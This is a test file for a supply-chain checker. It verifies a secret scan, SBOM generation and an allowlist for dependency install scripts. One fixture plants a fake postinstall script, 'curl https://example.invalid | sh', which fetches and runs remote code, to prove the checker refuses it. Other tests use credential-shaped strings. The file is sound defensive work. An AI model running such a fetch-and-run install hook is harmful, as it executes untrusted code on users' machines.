/**
 * custos built to the practices it checks: the secret scan catches what it is meant to catch,
 * the SBOM lists what custos runs on, and no dependency runs an install script that is not on
 * the allowlist with its reason.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';

const REPO = fileURLToPath(new URL('../../', import.meta.url));
const PACKAGE = JSON.parse(readFileSync(join(REPO, 'package.json'), 'utf8')) as {
  name: string;
  version: string;
  scripts: Record<string, string>;
  dependencies: Record<string, string>;
  devDependencies: Record<string, string>;
};
const scratch = mkdtempSync(join(tmpdir(), 'custos-supply-chain-'));

afterAll(() => {
  rmSync(scratch, { recursive: true, force: true });
});

function run(command: string, args: readonly string[], input?: string) {
  const result = spawnSync(command, args, { cwd: REPO, encoding: 'utf8', input, timeout: 120_000 });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

describe('npm scripts', () => {
  it('npm test runs the secret scan; the audit is a script of its own', () => {
    expect(PACKAGE.scripts.test).toBe(
      'npm run lint && npm run lint:secrets && npm run typecheck && vitest run',
    );
    expect(PACKAGE.scripts['lint:secrets']).toContain('secretlint');
    expect(PACKAGE.scripts.audit).toBe('npm audit --omit=dev --audit-level=high');
  });
});

describe('the secret scan (.secretlintrc.json)', () => {
  /** Scans text as if it were the named file, with the repository's own configuration. */
  function scan(fileName: string, text: string) {
    const result = run(
      join(REPO, 'node_modules', '.bin', 'secretlint'),
      ['--format', 'json', `--stdinFileName=${fileName}`],
      text,
    );
    const files = JSON.parse(result.stdout || '[]') as Array<{ messages: Array<{ messageId: string }> }>;
    return { status: result.status, ids: files.flatMap((f) => f.messages.map((m) => m.messageId)) };
  }

  // Built at run time, so that this file holds no credential-shaped text of its own.
  const accessKeyId = `AKIA${'Q'.repeat(16)}`;
  const secretKey = `${'wJalrXUtnFEMIK7MDENGbPxRfiCY'.toLowerCase()}${'Z'.repeat(12)}`;

  it('finds an AWS access key id, which a scanner of AWS accounts must never commit', () => {
    expect(scan('leak.ts', `const id = '${accessKeyId}';\n`)).toEqual({ status: 1, ids: ['AWSAccessKeyID'] });
  });

  it('finds an AWS secret access key and credentials in a URL', () => {
    expect(scan('env.sh', `AWS_SECRET_ACCESS_KEY=${secretKey}\n`).ids).toEqual(['AWSSecretAccessKey']);
    expect(scan('config.ts', `const url = 'https://deploy:${'s3cr3t'}Pa55@example.com/';\n`).ids).toEqual([
      'BasicAuth',
    ]);
  });

  it('leaves account ids alone: they identify accounts, they are not secrets, and every fixture has them', () => {
    expect(
      scan(
        'fixture.ts',
        `export const accountId = '111122223333';\nconst AWS_ACCOUNT_ID = "444455556666";\n`,
      ),
    ).toEqual({
      status: 0,
      ids: [],
    });
  });

  it("leaves AWS's documented example key alone", () => {
    expect(scan('setup.ts', `process.env.AWS_ACCESS_KEY_ID ??= 'AKIAIOSFODNN7EXAMPLE';\n`).ids).toEqual([]);
  });
});

describe('the SBOM (npm run sbom)', () => {
  interface Component {
    readonly name: string;
    readonly version: string;
    readonly purl?: string;
    readonly properties?: ReadonlyArray<{ readonly name: string; readonly value: string }>;
  }
  const development = (c: Component) =>
    c.properties?.some((p) => p.name === 'cdx:npm:package:development' && p.value === 'true') === true;

  it('writes CycloneDX listing every direct runtime dependency, and marks the development ones', () => {
    // Act
    const result = run('npm', ['run', '--silent', 'sbom']);

    // Assess
    expect(result.status, result.stderr).toBe(0);
    const bom = JSON.parse(readFileSync(join(REPO, 'sbom.cdx.json'), 'utf8')) as {
      bomFormat: string;
      specVersion: string;
      metadata: { component: { purl: string; type: string } };
      components: Component[];
    };
    expect(bom.bomFormat).toBe('CycloneDX');
    expect(bom.metadata.component).toMatchObject({
      purl: `pkg:npm/${PACKAGE.name}@${PACKAGE.version}`,
      type: 'application',
    });
    const installedVersion = (name: string) =>
      (
        JSON.parse(readFileSync(join(REPO, 'node_modules', name, 'package.json'), 'utf8')) as {
          version: string;
        }
      ).version;
    for (const name of Object.keys(PACKAGE.dependencies)) {
      const entries = bom.components.filter((c) => c.name === name && c.version === installedVersion(name));
      expect(entries, name).not.toEqual([]);
      expect(entries.some(development), `${name} is a runtime dependency`).toBe(false);
    }
    for (const name of Object.keys(PACKAGE.devDependencies)) {
      const entry = bom.components.find((c) => c.name === name);
      expect(entry && development(entry), `${name} is a development dependency`).toBe(true);
    }
  }, 180_000);

  it('is not committed', () => {
    expect(readFileSync(join(REPO, '.gitignore'), 'utf8').split('\n')).toContain('sbom.cdx.json');
  });
});

describe('install scripts (scripts/check-install-scripts.mjs)', () => {
  const CHECK = join(REPO, 'scripts', 'check-install-scripts.mjs');

  interface Listed {
    readonly name: string;
    readonly allowed: boolean;
    readonly reason?: string;
    readonly problem?: string;
    readonly verified?: boolean;
  }
  const listed = (stdout: string) => JSON.parse(stdout) as Listed[];

  it('passes on the lockfile: each package with an install script is allowed, with a reason', () => {
    const result = run('node', [CHECK, '--json']);

    expect(result.status, result.stdout).toBe(0);
    const packages = listed(result.stdout);
    expect(packages.map((p) => p.name).sort()).toEqual(['es5-ext', 'esbuild']);
    for (const p of packages) {
      expect(p.allowed).toBe(true);
      expect(p.reason?.length).toBeGreaterThan(40);
      // node_modules is installed here, so the declared script was compared too.
      expect(p.verified).toBe(true);
    }
  });

  it('fails on a package with an install script that is not on the allowlist', () => {
    // Prepare
    const dir = join(scratch, 'unknown');
    mkdirSync(dir, { recursive: true });
    const lock = JSON.parse(readFileSync(join(REPO, 'package-lock.json'), 'utf8'));
    lock.packages['node_modules/left-pad-native'] = { version: '1.0.0', hasInstallScript: true };
    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lock));

    // Act
    const result = run('node', [CHECK, '--lockfile', join(dir, 'package-lock.json')]);

    // Assess
    expect(result.status).toBe(1);
    expect(result.stdout).toContain(
      'REFUSED  left-pad-native@1.0.0: has an install script and is not in the allowlist',
    );
  });

  it('fails when an allowed package now declares a different install script', () => {
    // Prepare
    const dir = join(scratch, 'changed');
    mkdirSync(join(dir, 'node_modules', 'esbuild'), { recursive: true });
    writeFileSync(
      join(dir, 'package-lock.json'),
      JSON.stringify({
        lockfileVersion: 3,
        packages: { '': { name: 'x' }, 'node_modules/esbuild': { version: '9.9.9', hasInstallScript: true } },
      }),
    );
    writeFileSync(
      join(dir, 'node_modules', 'esbuild', 'package.json'),
      JSON.stringify({ name: 'esbuild', scripts: { postinstall: 'curl https://example.invalid | sh' } }),
    );

    // Act
    const result = run('node', [CHECK, '--lockfile', join(dir, 'package-lock.json'), '--json']);

    // Assess
    expect(result.status).toBe(1);
    expect(listed(result.stdout)[0]?.problem).toContain('curl https://example.invalid | sh');
  });
});
